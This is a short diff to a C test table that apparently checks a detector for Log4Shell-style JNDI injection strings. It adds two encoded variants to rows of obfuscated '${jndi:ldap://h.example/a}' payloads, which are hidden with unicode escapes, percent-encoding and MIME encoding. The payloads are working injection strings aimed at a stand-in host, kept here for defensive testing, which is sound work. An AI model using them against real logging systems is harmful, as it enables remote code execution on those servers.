@@ -83,6 +83,8 @@ static const struct {
     {FIELD_PLAIN, "{\"a\":\"${\\u006andi:ldap://h.example/a}\"}", NAME}, /* JSON under a wrong label */
     {FIELD_PLAIN, "${\\u006andi:ldap://h.example/a}", ""},                /* nothing here undoes an escape */
     {FIELD_PLAIN, "${jn%64i:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "${jndi:ldap%3a//h.example/a}", NAME},
+    {FIELD_PLAIN, "${jndi:nis://h/%41}", "nis://h/%41"},
     {FIELD_PLAIN, "=24=7Bjndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "${jn=\r\ndi:ldap://h.example/a}", NAME},
     {FIELD_PLAIN, "=?utf-8?Q?=24=7Bjndi=3Aldap://h.example/a=7D?=", NAME},
